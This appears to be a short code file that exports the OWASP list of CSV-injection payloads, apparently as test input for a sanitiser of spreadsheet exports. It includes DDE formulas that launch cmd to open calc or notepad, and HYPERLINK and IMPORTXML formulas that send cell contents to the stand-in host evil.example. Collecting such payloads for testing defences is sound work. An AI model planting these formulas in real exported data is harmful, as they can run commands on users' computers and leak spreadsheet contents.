// The OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection).
export const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click me!")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=2+5+cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=1+2",
  "\tcmd|' /C calc'!A0",
  "+",
  "-",
  "@",
];
